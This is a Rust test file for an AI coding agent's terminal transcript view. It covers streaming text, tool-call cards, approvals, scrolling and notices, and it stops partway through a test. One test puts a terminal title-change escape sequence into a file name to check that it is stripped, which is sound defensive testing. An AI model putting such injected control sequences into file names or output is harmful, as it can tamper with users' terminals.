//! Whole-view tests: snapshots of rendered frames and behaviour over event sequences.

use std::time::{Duration, Instant};

use pretty_assertions::assert_eq;
use ratatui::Terminal;
use ratatui::backend::TestBackend;
use ratatui::buffer::Buffer;
use ratatui::layout::Rect;
use ratatui::text::Line;

use super::*;
use crate::policy::Decision;

fn at(base: Instant, millis: u64) -> Instant {
    base + Duration::from_millis(millis)
}

fn screen(transcript: &mut Transcript, width: u16, height: u16, now: Instant) -> String {
    let mut terminal = Terminal::new(TestBackend::new(width, height)).unwrap();
    terminal
        .draw(|frame| {
            transcript.render(frame.area(), frame.buffer_mut(), now);
        })
        .unwrap();
    terminal.backend().to_string()
}

fn text(text: &str) -> Event {
    Event::TextDelta { text: text.into() }
}

fn user(text: &str) -> Event {
    Event::UserMessageDelivered {
        id: 1,
        text: text.into(),
    }
}

fn begin(id: &str, name: &str) -> Event {
    Event::ToolCallBegin {
        call_id: id.into(),
        name: name.into(),
    }
}

fn ready(id: &str, name: &str, arguments: &str) -> Event {
    Event::ToolCallReady {
        call_id: id.into(),
        name: name.into(),
        arguments: arguments.into(),
        info: crate::tools::Registry::core().describe(name, arguments),
    }
}

fn run(id: &str) -> Event {
    Event::ToolRunBegin { call_id: id.into() }
}

fn output(id: &str, text: &str) -> Event {
    Event::ToolOutputDelta {
        call_id: id.into(),
        text: text.into(),
    }
}

fn end(id: &str, is_error: bool, summary: &str, output: &str) -> Event {
    Event::ToolRunEnd {
        call_id: id.into(),
        is_error,
        summary: summary.into(),
        output: output.into(),
        checks: None,
    }
}

fn turn_end() -> Event {
    Event::TurnEnd {
        turn: 1,
        outcome: TurnOutcome::Finished {
            stop_reason: StopReason::EndTurn,
        },
    }
}

/// Feeds `source` in uneven fragments, ticking every 10 ms, then ticks until nothing
/// is queued. Returns the clock after the last tick.
fn stream(transcript: &mut Transcript, source: &str, start: Instant) -> Instant {
    let mut now = start;
    let chars: Vec<char> = source.chars().collect();
    for (index, chunk) in chars.chunks(7).enumerate() {
        now = at(start, 10 * index as u64);
        let fragment: String = chunk.iter().collect();
        transcript.on_event(&text(&fragment), now);
        transcript.tick(now);
    }
    while let Some(deadline) = transcript.next_deadline(now) {
        if transcript
            .text
            .as_ref()
            .is_none_or(|a| a.stream.queued() == 0)
        {
            break;
        }
        now = deadline;
        transcript.tick(now);
    }
    now
}

fn buffer(transcript: &mut Transcript, width: u16, height: u16, now: Instant) -> Buffer {
    let mut buffer = Buffer::empty(Rect::new(0, 0, width, height));
    transcript.render(buffer.area, &mut buffer, now);
    buffer
}

/// The text of row `y`, trailing spaces cut.
fn row_text(buffer: &Buffer, y: u16) -> String {
    let row: String = (0..buffer.area.width)
        .map(|x| buffer[(x, y)].symbol())
        .collect();
    row.trim_end().to_string()
}

/// The first row containing `needle`.
fn find_row(buffer: &Buffer, needle: &str) -> Option<u16> {
    (0..buffer.area.height).find(|&y| row_text(buffer, y).contains(needle))
}

fn all_rows(buffer: &Buffer) -> Vec<String> {
    (0..buffer.area.height)
        .map(|y| row_text(buffer, y))
        .collect()
}

const PLAN: &str = "# Parser plan\n\nTwo passes:\n\n1. Tokenize the input\n   - keep **byte offsets** \
                    for errors\n   - handle `\\\"` escapes\n2. Build the tree\n\n```rust\nfn parse(input: &str) \
                    -> Result<Ast, Error> {\n    let tokens = lex(input)?;\n    let mut parser = Parser::new(&tok";

#[test]
fn snapshot_streaming_mid_markdown() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    transcript.on_event(&user("Sketch a parser for the config format."), start);
    let now = stream(&mut transcript, PLAN, start);
    // The incomplete code line shows raw; everything before it as markdown.
    insta::assert_snapshot!(screen(&mut transcript, 80, 24, now));
}

/// Three calls started 80 ms apart (so their spinners differ), the shell printing.
fn three_running_cards(start: Instant) -> Transcript {
    let mut transcript = Transcript::new(Theme::new(false));
    transcript.on_event(&user("Why does the build fail?"), start);
    transcript.on_event(&text("Let me look at the code and build it.\n"), start);
    let calls = [
        (
            "r",
            "read",
            r#"{"path":"src/main.rs","offset":120,"limit":81}"#,
        ),
        ("g", "grep", r#"{"pattern":"fn main","path":"src/"}"#),
        ("s", "shell", r#"{"command":"cargo build --workspace"}"#),
    ];
    for (n, (id, name, arguments)) in calls.iter().enumerate() {
        let began = at(start, 100 + 80 * n as u64);
        transcript.on_event(&begin(id, name), began);
        transcript.on_event(&ready(id, name, arguments), began);
        transcript.on_event(&run(id), at(start, 500 + 1_000 * n as u64));
    }
    transcript.on_event(
        &output(
            "s",
            "   Compiling \u{1b}[1mduet\u{1b}[0m v0.1.0\nwarning: unused import\r\n  --> src/x.rs:3\n\
             error[E0308]: mismatched types\n  --> src/main.rs:12:5\n   |",
        ),
        at(start, 2_800),
    );
    transcript
}

#[test]
fn snapshot_three_parallel_cards_running() {
    let start = Instant::now();
    let mut transcript = three_running_cards(start);
    insta::assert_snapshot!(screen(&mut transcript, 80, 24, at(start, 4_650)));
}

#[test]
fn snapshot_three_parallel_cards_finished_one_failed() {
    let start = Instant::now();
    let mut transcript = three_running_cards(start);
    transcript.on_event(
        &end("r", false, "read 81 lines of src/main.rs", "…"),
        at(start, 4_700),
    );
    let error = "Invalid regex: unclosed group\n  fn main(\n         ^\nEscape ( as \\( to match it literally.";
    transcript.on_event(&end("g", true, "", error), at(start, 4_800));
    transcript.on_event(&end("s", false, "exit 101", "…"), at(start, 6_900));
    transcript.on_event(&turn_end(), at(start, 7_000));
    let expanded = screen(&mut transcript, 80, 24, at(start, 9_000));
    insta::assert_snapshot!(expanded);
    assert_eq!(
        transcript.next_deadline(at(start, 9_000)),
        None,
        "nothing animates"
    );
}

fn thinking_then_answer(start: Instant) -> Transcript {
    let mut transcript = Transcript::new(Theme::new(false));
    transcript.on_event(&user("Is the cache safe to share?"), start);
    for fragment in [
        "The cache is an Arc<Mutex<..>>",
        " so sharing is fine.\nBut eviction ",
        "runs on drop.\n",
        "Check the drop order.",
    ] {
        transcript.on_event(
            &Event::ThinkingDelta {
                text: fragment.into(),
            },
            start,
        );
    }
    transcript.on_event(&text("Yes: it is behind a mutex.\n"), start);
    transcript.on_event(&turn_end(), start);
    transcript
}

#[test]
fn snapshot_thinking_collapsed() {
    let start = Instant::now();
    let mut transcript = thinking_then_answer(start);
    insta::assert_snapshot!(screen(&mut transcript, 80, 24, start));
}

#[test]
fn snapshot_thinking_expanded() {
    let start = Instant::now();
    let mut transcript = thinking_then_answer(start);
    screen(&mut transcript, 80, 24, start);
    assert!(transcript.handle(Action::ToggleThinking));
    insta::assert_snapshot!(screen(&mut transcript, 80, 24, start));
    transcript.handle(Action::ToggleThinking);
    let collapsed = buffer(&mut transcript, 80, 24, start);
    assert!(find_row(&collapsed, "▸ thinking (3 lines)").is_some());
}

#[test]
fn thinking_shows_while_streaming_and_collapses_when_it_ends() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    transcript.on_event(
        &Event::ThinkingDelta {
            text: "weighing options\nfirst".into(),
        },
        start,
    );
    let streaming = buffer(&mut transcript, 40, 6, start);
    assert_eq!(
        all_rows(&streaming)[..3],
        ["▾ thinking", "  weighing options", "  first"]
    );
    // Toggling mid-stream hides it.
    transcript.handle(Action::ToggleThinking);
    assert_eq!(
        row_text(&buffer(&mut transcript, 40, 6, start), 0),
        "▸ thinking (2 lines)"
    );
    transcript.handle(Action::ToggleThinking);
    transcript.on_event(&text("answer\n"), start);
    let ended = buffer(&mut transcript, 40, 6, start);
    assert_eq!(
        row_text(&ended, 1),
        "  weighing options",
        "expanded stays expanded"
    );
}

#[test]
fn snapshot_scrolled_up_with_new_lines_indicator() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    transcript.on_event(&user("List the modules."), start);
    let listing: String = (1..=40).map(|n| format!("- module {n}\n")).collect();
    transcript.on_event(&text(&listing), start);
    transcript.on_event(&turn_end(), start);
    screen(&mut transcript, 80, 24, start);
    transcript.handle(Action::PageUp);
    assert!(!transcript.is_following());
    let before = buffer(&mut transcript, 80, 24, start);
    transcript.on_event(&user("And the tests?"), start);
    transcript.on_event(&text("Three:\n- unit\n- snapshot\n- end to end\n"), start);
    transcript.on_event(&turn_end(), start);
    let after = buffer(&mut transcript, 80, 24, start);
    assert_eq!(
        all_rows(&after)[..23],
        all_rows(&before)[..23],
        "the view stays put"
    );
    insta::assert_snapshot!(screen(&mut transcript, 80, 24, start));
    transcript.handle(Action::ScrollBottom);
    let bottom = buffer(&mut transcript, 80, 24, start);
    assert_eq!(row_text(&bottom, 23), "• end to end");
}

#[test]
fn snapshot_forty_columns() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    transcript.on_event(&user("把这个函数改成异步的 🚀 and keep the API"), start);
    let reply = "Plan:\n\n- make `load` async and await every caller in the crate\n  - update the 文档 too\n\n\
                 ```rust\npub async fn load(path: &Path) -> Result<Config, Error> {\n```\n";
    transcript.on_event(&text(reply), start);
    transcript.on_event(&begin("s", "shell"), start);
    transcript.on_event(
        &ready(
            "s",
            "shell",
            r#"{"command":"cargo test --workspace --all-features"}"#,
        ),
        start,
    );
    transcript.on_event(&run("s"), start);
    transcript.on_event(&output("s", "test config::load ... ok\n"), start);
    transcript.on_event(&end("s", false, "exit 0", "…"), at(start, 1_500));
    transcript.on_event(&turn_end(), at(start, 1_500));
    let shown = screen(&mut transcript, 40, 24, at(start, 2_000));
    insta::assert_snapshot!(shown);
    let rows = buffer(&mut transcript, 40, 24, at(start, 2_000));
    for y in 0..24 {
        assert!(
            rows_fit(&rows, y),
            "row {y} overflows: {}",
            row_text(&rows, y)
        );
    }
}

/// No wide character was cut at the right edge (its second half would be missing).
fn rows_fit(buffer: &Buffer, y: u16) -> bool {
    use ratatui::buffer::CellWidth;
    let last = buffer.area.width - 1;
    buffer[(last, y)].symbol().cell_width() <= 1
}

#[test]
fn follows_the_bottom_while_streaming_until_scrolled_up() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    let mut now = start;
    for n in 0..30 {
        now = at(start, 40 * n);
        transcript.on_event(&text(&format!("line {n}\n")), now);
        transcript.tick(now);
    }
    let following = buffer(&mut transcript, 40, 10, now);
    assert!(transcript.is_following());
    assert_eq!(
        row_text(&following, 9),
        "line 29",
        "the newest line is at the bottom"
    );

    assert!(transcript.handle(Action::ScrollUp));
    assert!(!transcript.is_following());
    let pinned = buffer(&mut transcript, 40, 10, now);
    assert_eq!(row_text(&pinned, 0), "line 19");
    for n in 30..35 {
        now = at(start, 40 * n);
        transcript.on_event(&text(&format!("line {n}\n")), now);
        transcript.tick(now);
    }
    let still = buffer(&mut transcript, 40, 10, now);
    assert_eq!(
        row_text(&still, 0),
        "line 19",
        "new output does not move the view"
    );
    assert!(
        row_text(&still, 9).ends_with("↓ 5 new lines"),
        "{}",
        row_text(&still, 9)
    );

    // Paging down to the end follows again.
    transcript.handle(Action::PageDown);
    assert!(transcript.is_following());
    transcript.on_event(&text("line 35\n"), at(now, 100));
    transcript.tick(at(now, 100));
    assert_eq!(
        row_text(&buffer(&mut transcript, 40, 10, at(now, 100)), 9),
        "line 35"
    );

    transcript.handle(Action::ScrollTop);
    assert_eq!(row_text(&buffer(&mut transcript, 40, 10, now), 0), "line 0");
    transcript.handle(Action::ScrollBottom);
    assert!(transcript.is_following());
}

#[test]
fn page_size_is_the_height_less_one() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    let lines: String = (0..50).map(|n| format!("line {n}\n")).collect();
    transcript.on_event(&text(&lines), start);
    transcript.on_event(&turn_end(), start);
    buffer(&mut transcript, 40, 10, start);
    transcript.handle(Action::PageUp);
    // The bottom view starts at line 40; a page of 9 up shows line 31 first.
    assert_eq!(
        row_text(&buffer(&mut transcript, 40, 10, start), 0),
        "line 31"
    );
    transcript.handle(Action::PageDown);
    assert!(transcript.is_following());
}

/// The header and result rows of the only card, as text.
fn card_rows(transcript: &mut Transcript, now: Instant) -> Vec<String> {
    let shown = buffer(transcript, 60, 20, now);
    all_rows(&shown)
        .into_iter()
        .filter(|row| !row.is_empty())
        .collect()
}

#[test]
fn card_states_over_the_full_event_sequence() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    transcript.on_event(&begin("e", "edit"), start);
    assert_eq!(card_rows(&mut transcript, start), ["⠋ edit …"]);
    assert!(
        transcript.next_deadline(start).is_some(),
        "the spinner animates"
    );

    let arguments = r#"{"path":"src/lib.rs","old_string":"a","new_string":"b"}"#;
    transcript.on_event(&ready("e", "edit", arguments), at(start, 100));
    let queued = format!("{:<54}queued", "○ edit src/lib.rs");
    assert_eq!(card_rows(&mut transcript, at(start, 100)), [queued]);
    assert_eq!(
        transcript.next_deadline(at(start, 100)),
        None,
        "a queued card waits still"
    );

    transcript.on_event(&run("e"), at(start, 200));
    let diff = "--- a/src/lib.rs\n+++ b/src/lib.rs\n@@ -1,2 +1,2 @@\n-a\n+b\n c\n";
    transcript.on_event(
        &Event::EditProposed {
            call_id: "e".into(),
            path: "src/lib.rs".into(),
            diff: diff.into(),
        },
        at(start, 210),
    );
    let request = crate::agent::protocol::ApprovalView::Command {
        command: String::new(),
        cwd: String::new(),
        class: crate::policy::CommandClass::WritesWorkspace,
        reasons: Vec::new(),
        protected: Vec::new(),
    };
    transcript.on_event(
        &Event::ApprovalNeeded {
            call_id: "e".into(),
            why: "edits need approval in ask mode".into(),
            request,
        },
        at(start, 220),
    );
    assert_eq!(
        card_rows(&mut transcript, at(start, 2_300)),
        [
            format!("{:<58}2s", "⠇ edit src/lib.rs").as_str(),
            "  ? needs approval: edits need approval in ask mode",
            "  @@ -1,2 +1,2 @@",
            "  -a",
            "  +b",
            "   c",
        ]
    );
    transcript.on_event(
        &Event::ApprovalClosed {
            call_id: "e".into(),
            decision: Some(Decision::Approve),
        },
        at(start, 2_400),
    );
    transcript.on_event(
        &end("e", false, "edited src/lib.rs (1 line changed)", ""),
        at(start, 2_500),
    );
    transcript.on_event(
        &Event::ChecksReported {
            call_id: "e".into(),
            report: "project checks: cargo check passed".into(),
        },
        at(start, 2_600),
    );
    assert_eq!(
        card_rows(&mut transcript, at(start, 2_600)),
        [
            format!("{:<58}2s", "• edit src/lib.rs").as_str(),
            "  → approved",
            "  @@ -1,2 +1,2 @@",
            "  -a",
            "  +b",
            "   c",
            "  ✓ edited src/lib.rs (1 line changed)",
            "  project checks: cargo check passed",
        ]
    );
    assert_eq!(transcript.next_deadline(at(start, 2_600)), None);
}

#[test]
fn a_call_that_fails_validation_ends_without_running() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    transcript.on_event(&begin("x", "read"), start);
    transcript.on_event(&ready("x", "read", r#"{"file":"a"}"#), start);
    let error = "Invalid arguments for read: missing field `path`.\nPass {\"path\": \"...\"}.";
    transcript.on_event(
        &end("x", true, "Invalid arguments for read", error),
        at(start, 50),
    );
    assert_eq!(
        card_rows(&mut transcript, at(start, 5_000)),
        [
            r#"• read {"file":"a"}"#,
            "  ✗ Invalid arguments for read: missing field `path`.",
            r#"    Pass {"path": "..."}."#,
        ],
        "no elapsed time: it never ran"
    );
    assert_eq!(transcript.next_deadline(at(start, 5_000)), None);
    // A result for a call never announced still shows.
    transcript.on_event(&end("ghost", false, "done", ""), at(start, 5_000));
    assert!(find_row(&buffer(&mut transcript, 60, 20, start), "✓ done").is_some());
}

#[test]
fn an_interrupted_turn_stops_spinners_and_says_so() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    transcript.on_event(&begin("s", "shell"), start);
    transcript.on_event(&ready("s", "shell", r#"{"command":"sleep 100"}"#), start);
    transcript.on_event(&run("s"), start);
    transcript.on_event(
        &Event::TurnEnd {
            turn: 1,
            outcome: TurnOutcome::Interrupted,
        },
        at(start, 900),
    );
    let rows = card_rows(&mut transcript, at(start, 1_000));
    assert_eq!(
        rows,
        [
            "• shell $ sleep 100",
            "  ✗ stopped before a result",
            "! interrupted"
        ]
    );
    assert_eq!(transcript.next_deadline(at(start, 1_000)), None);
}

#[test]
fn a_retry_marks_the_partial_reply_and_stops_the_cut_call() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    transcript.on_event(&text("Writing the file now.\n"), start);
    transcript.on_event(&begin("w", "write"), start);
    transcript.on_event(
        &Event::Retrying {
            attempt: 1,
            max_attempts: 5,
            delay_ms: 2000,
            reason: "network error while streaming: reset".into(),
            discarded: true,
        },
        at(start, 100),
    );
    let rows = card_rows(&mut transcript, at(start, 200));
    assert_eq!(
        rows,
        [
            "Writing the file now.",
            "• write …",
            "  ✗ stopped before a result",
            "! retrying in 2s (attempt 1/5): network error while",
            "  streaming: reset",
            "  the partial reply above is discarded",
        ]
    );
    assert_eq!(transcript.next_deadline(at(start, 200)), None);
}

#[test]
fn compaction_shows_as_a_notice() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    let shown = transcript.on_event(
        &Event::Compacted {
            before_tokens_estimate: 9000,
            after_tokens_estimate: 7000,
            kind: crate::agent::CompactionKind::PrunedToolResults,
        },
        start,
    );
    assert!(shown);
    let rows = card_rows(&mut transcript, start);
    assert_eq!(
        rows,
        [
            "· context compacted: pruned older tool results (~9000 →",
            "  ~7000 tokens)"
        ]
    );
}

#[test]
fn nested_instructions_show_as_a_notice_under_the_call_that_loaded_them() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    transcript.on_event(&begin("r", "read"), start);
    transcript.on_event(&ready("r", "read", r#"{"path":"sub/dir/a.txt"}"#), start);
    transcript.on_event(&end("r", false, "read sub/dir/a.txt (1 line)", "x"), start);
    let shown = transcript.on_event(
        &Event::InstructionsLoaded {
            call_id: "r".into(),
            files: vec![
                "sub/AGENTS.md".into(),
                "sub/dir/CLAUDE.md\x1b]0;t\x07".into(),
            ],
        },
        start,
    );
    assert!(shown);
    let rows = all_rows(&buffer(&mut transcript, 80, 10, start));
    assert!(
        rows.iter()
            .any(|row| row.starts_with("· instructions loaded: sub/AGENTS.md, sub/dir/CLAUDE.md")),
        "{rows:#?}"
    );
    // A directory's name is the repository's: no title change reaches the terminal.
    assert!(!rows.iter().any(|row| row.contains("]0;t")), "{rows:#?}");
}

#[test]
fn toggling_cards_collapses_finished_bodies_but_not_running_tails() {
    let start = Instant::now();
    let mut transcript = three_running_cards(start);
    transcript.on_event(
        &end("r", true, "", "No such file: src/main.rs\nCheck the path."),
        at(start, 4_700),
    );
    assert!(transcript.handle(Action::ToggleCards));
    let rows = all_rows(&buffer(&mut transcript, 80, 24, at(start, 4_800)));
    assert!(
        rows.iter().any(|row| row == "  │    |"),
        "the running shell keeps its tail"
    );
    assert!(
        rows.iter()
            .any(|row| row == "  ✗ No such file: src/main.rs")
    );
    assert!(
        !rows.iter().any(|row| row.contains("Check the path.")),
        "details are hidden"
    );
    transcript.handle(Action::ToggleCards);
    let rows = all_rows(&buffer(&mut transcript, 80, 24, at(start, 4_800)));
    assert!(rows.iter().any(|row| row.contains("Check the path.")));
}

#[test]
fn next_deadline_is_none_when_idle() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    assert_eq!(transcript.next_deadline(start), None);
    transcript.on_event(&user("hi"), start);
    transcript.push_notice("mode: auto", NoticeKind::Info);
    assert_eq!(transcript.next_deadline(start), None);
    assert!(
        !transcript.tick(at(start, 500)),
        "nothing to redraw when idle"
    );

    let many: String = (0..40).map(|n| format!("{n}\n")).collect();
    transcript.on_event(&text(&many), start);
    let deadline = transcript.next_deadline(start).unwrap();
    assert!(deadline > start, "queued lines are paced");
    assert!(transcript.tick(deadline));
    transcript.on_event(&turn_end(), deadline);
    assert_eq!(transcript.next_deadline(deadline), None);
    assert!(!transcript.tick(at(deadline, 1_000)));
}

#[test]
fn spinner_ticks_redraw_only_when_the_frame_changes() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    transcript.on_event(&begin("g", "grep"), start);
    buffer(&mut transcript, 40, 5, at(start, 10));
    assert!(
        !transcript.tick(at(start, 20)),
        "same spinner frame as drawn"
    );
    let deadline = transcript.next_deadline(at(start, 20)).unwrap();
    assert_eq!(deadline, at(start, 80));
    assert!(transcript.tick(deadline));
}

#[test]
fn a_write_card_shows_the_check_verdict_and_the_details_when_expanded() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    let arguments =
        r#"{"path":"calc/stats.py","content":"def mean(xs):\n    return sum(xs) / len(xs\n"}"#;
    transcript.on_event(&begin("w", "write"), start);
    transcript.on_event(&ready("w", "write", arguments), start);
    transcript.on_event(&run("w"), start);
    let report = "lint: 1 new syntax error (line 2)\n\
                  calc/stats.py:2:12: syntax error: unclosed `(`";
    transcript.on_event(
        &Event::ToolRunEnd {
            call_id: "w".into(),
            is_error: false,
            summary: "created calc/stats.py (2 lines)".into(),
            output: format!("created `calc/stats.py` (2 lines, 42 bytes).\n\n{report}"),
            checks: Some(report.into()),
        },
        at(start, 300),
    );
    // Cards start expanded: the details the model got are there.
    let rows = card_rows(&mut transcript, at(start, 300));
    assert_eq!(
        rows[1..],
        [
            "  ✓ created calc/stats.py (2 lines)",
            "  lint: 1 new syntax error (line 2)",
            "    calc/stats.py:2:12: syntax error: unclosed `(`",
        ],
        "{rows:#?}"
    );
    // Collapsed, the verdict stays.
    transcript.handle(Action::ToggleCards);
    let rows = card_rows(&mut transcript, at(start, 300));
    assert_eq!(
        rows[1..],
        [
            "  ✓ created calc/stats.py (2 lines)",
            "  lint: 1 new syntax error (line 2)",
        ],
        "{rows:#?}"
    );
}

/// The event loop ticks only when `next_deadline(now) <= now`, at whatever instant it
/// wakes: a running card must be due then, and no longer due once ticked (else the loop
/// would spin).
#[test]
fn a_running_card_is_due_whenever_the_loop_wakes_after_its_next_frame() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    transcript.on_event(&begin("s", "shell"), start);
    transcript.on_event(&ready("s", "shell", r#"{"command":"sleep 6"}"#), start);
    transcript.on_event(&run("s"), start);
    buffer(&mut transcript, 60, 5, start);
    for ms in [85, 1_003, 2_517] {
        let now = at(start, ms);
        let due = transcript.next_deadline(now).unwrap();
        assert!(due <= now, "due at {ms} ms");
        assert!(transcript.tick(now));
        assert!(
            transcript.next_deadline(now).unwrap() > now,
            "ticked at {ms} ms: the next frame is ahead"
        );
    }
    let header = card_rows(&mut transcript, at(start, 2_517)).remove(0);
    assert!(header.ends_with("2s"), "{header}");
    assert!(!header.starts_with('⠋'), "the spinner turned: {header}");
}

#[test]
fn text_queued_behind_unrevealed_lines_asks_for_no_frame() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    assert!(
        transcript.on_event(&text("first line\nsecond line\n"), start),
        "a new cell, one line shown"
    );
    assert!(
        !transcript.on_event(&text("third li"), start),
        "waits behind the second line"
    );
    assert!(!transcript.on_event(&text("ne\nfour"), start));
    // Its turn comes at the pace's next tick; from then on the line being received
    // is shown as it grows.
    let mut now = start;
    while let Some(deadline) = transcript.next_deadline(now) {
        now = deadline;
        assert!(transcript.tick(now));
    }
    assert!(screen(&mut transcript, 30, 6, now).contains("four"));
    assert!(
        transcript.on_event(&text("th"), now),
        "the shown partial line grew"
    );
    assert!(screen(&mut transcript, 30, 6, now).contains("fourth"));
}

#[test]
fn turn_end_reveals_everything_pending() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    let lines: String = (0..300).map(|n| format!("row {n}\n")).collect();
    transcript.on_event(&text(&lines), start);
    transcript.on_event(&text("last, unterminated"), start);
    assert_eq!(
        transcript.take_finished(40),
        Vec::<Line>::new(),
        "still streaming"
    );
    transcript.on_event(&turn_end(), start);
    let printed: Vec<String> = transcript
        .take_finished(40)
        .iter()
        .map(Line::to_string)
        .collect();
    assert_eq!(printed.len(), 301);
    assert_eq!(printed[299], "row 299");
    assert_eq!(printed[300], "last, unterminated");
}

#[test]
fn a_burst_of_5000_lines_drains_in_bounded_ticks() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    let burst: String = (0..5_000).map(|n| format!("burst line {n}\n")).collect();
    let received = Instant::now();
    transcript.on_event(&text(&burst), start);
    let received = received.elapsed();
    let mut now = start;
    let mut ticks = 0;
    let mut slowest = Duration::ZERO;
    while let Some(deadline) = transcript.next_deadline(now) {
        now = deadline;
        let frame = Instant::now();
        transcript.tick(now);
        buffer(&mut transcript, 80, 24, now);
        slowest = slowest.max(frame.elapsed());
        ticks += 1;
        assert!(ticks < 200, "the backlog drains");
    }
    let shown = buffer(&mut transcript, 80, 24, now);
    assert_eq!(row_text(&shown, 23), "burst line 4999");
    println!(
        "5,000-line burst: taken in {received:?}, revealed over {ticks} ticks ({:?} of clock), \
         slowest tick+frame {slowest:?}",
        now - start
    );
}

#[test]
fn rendering_after_5000_messages_prints_frame_time() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    for n in 0..2_500 {
        transcript.on_event(
            &user(&format!("question {n}: why is the sky blue over 東京?")),
            start,
        );
        transcript.on_event(
            &text(&format!(
                "Because of **Rayleigh** scattering, answer {n}.\n"
            )),
            start,
        );
        transcript.on_event(&turn_end(), start);
    }
    let first = Instant::now();
    let shown = buffer(&mut transcript, 80, 24, start);
    let first = first.elapsed();
    let second = Instant::now();
    buffer(&mut transcript, 80, 24, start);
    let second = second.elapsed();
    assert_eq!(
        row_text(&shown, 23),
        "Because of Rayleigh scattering, answer 2499."
    );
    println!(
        "5,000 messages: first frame {first:?} (wraps every cell once), next frame {second:?}"
    );
}

#[test]
fn take_finished_hands_out_cells_once_in_order() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    transcript.on_event(&user("go"), start);
    transcript.on_event(&text("Working on it.\n"), start);
    transcript.push_notice("mode: auto", NoticeKind::Info);
    let first: Vec<String> = transcript
        .take_finished(40)
        .iter()
        .map(Line::to_string)
        .collect();
    assert_eq!(
        first,
        ["› go"],
        "the reply still streams; the notice waits behind it"
    );
    transcript.on_event(&begin("s", "shell"), start);
    let second: Vec<String> = transcript
        .take_finished(40)
        .iter()
        .map(Line::to_string)
        .collect();
    assert_eq!(second, ["", "Working on it.", "", "· mode: auto"]);
    assert_eq!(transcript.take_finished(40), Vec::<Line>::new());
}

#[test]
fn a_notice_during_a_stream_goes_below_the_growing_reply() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    transcript.on_event(&text("```rust\nfn a() {}\n"), start);
    transcript.push_notice("mode: auto", NoticeKind::Info);
    transcript.on_event(&text("fn b() {}\n```\n"), start);
    transcript.on_event(&turn_end(), start);
    let rows = all_rows(&buffer(&mut transcript, 40, 6, start));
    assert_eq!(
        rows[..4],
        ["  fn a() {}", "  fn b() {}", "", "· mode: auto"]
    );
}

#[test]
fn resizing_rewraps_and_clear_forgets() {
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    transcript.on_event(
        &text("one two three four five six seven eight nine ten\n"),
        start,
    );
    transcript.on_event(&turn_end(), start);
    assert_eq!(
        row_text(&buffer(&mut transcript, 80, 4, start), 0),
        "one two three four five six seven eight nine ten"
    );
    let narrow = buffer(&mut transcript, 20, 4, start);
    assert_eq!(
        all_rows(&narrow)[..3],
        ["one two three four", "five six seven eight", "nine ten"]
    );
    transcript.clear();
    assert!(
        all_rows(&buffer(&mut transcript, 20, 4, start))
            .iter()
            .all(String::is_empty)
    );
    assert_eq!(transcript.next_deadline(start), None);
}

#[test]
fn styles_carry_meaning_with_colour() {
    use ratatui::style::Color;
    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(true));
    transcript.on_event(&user("fix it"), start);
    transcript.on_event(&text("```rust\nlet x = 1;\n```\n"), start);
    transcript.on_event(&begin("e", "edit"), start);
    transcript.on_event(&ready("e", "edit", r#"{"path":"a.rs"}"#), start);
    let diff = "--- a/a.rs\n+++ b/a.rs\n@@ -1 +1 @@\n-old\n+new\n";
    transcript.on_event(
        &Event::EditProposed {
            call_id: "e".into(),
            path: "a.rs".into(),
            diff: diff.into(),
        },
        start,
    );
    transcript.on_event(&end("e", true, "", "refused"), start);
    let shown = buffer(&mut transcript, 40, 16, start);
    let cell_at = |needle: &str, offset: u16| {
        let y = find_row(&shown, needle).unwrap();
        shown[(offset, y)].clone()
    };
    assert_eq!(
        cell_at("› fix it", 2).fg,
        Color::Blue,
        "user messages stand out"
    );
    assert_eq!(cell_at("let x", 2).fg, Color::Magenta, "`let` is a keyword");
    assert_eq!(cell_at("+new", 2).fg, Color::Green);
    assert_eq!(cell_at("-old", 2).fg, Color::Red);
    assert_eq!(cell_at("✗ refused", 2).fg, Color::Red);
}

#[test]
fn tiny_areas_render_without_panicking() {
    let start = Instant::now();
    let mut transcript = three_running_cards(start);
    transcript.on_event(
        &text("# 标题\n> quote **bold**\n```rust\nfn x() {}\n```\n"),
        start,
    );
    for width in 1..=6 {
        for height in 1..=3 {
            let shown = buffer(&mut transcript, width, height, at(start, 5_000));
            assert_eq!(shown.area.width, width);
        }
    }
    transcript.handle(Action::PageUp);
    buffer(&mut transcript, 1, 1, start);
}

#[test]
fn a_restored_conversation_shows_messages_and_finished_cards_at_once() {
    use crate::provider::{Block, Message, Role, ToolCall, ToolResult};

    let start = Instant::now();
    let mut transcript = Transcript::new(Theme::new(false));
    let call = |id: &str, arguments: &str| {
        Block::ToolCall(ToolCall {
            id: id.into(),
            name: "read".into(),
            arguments: arguments.into(),
        })
    };
    let result = |id: &str, content: &str, is_error| {
        Block::ToolResult(ToolResult {
            call_id: id.into(),
            content: content.into(),
            is_error,
        })
    };
    let messages = vec![
        Message::user_text("read the notes"),
        Message {
            role: Role::Assistant,
            content: vec![
                Block::Thinking {
                    thinking: "Two files.".into(),
                    signature: Some("sig".into()),
                },
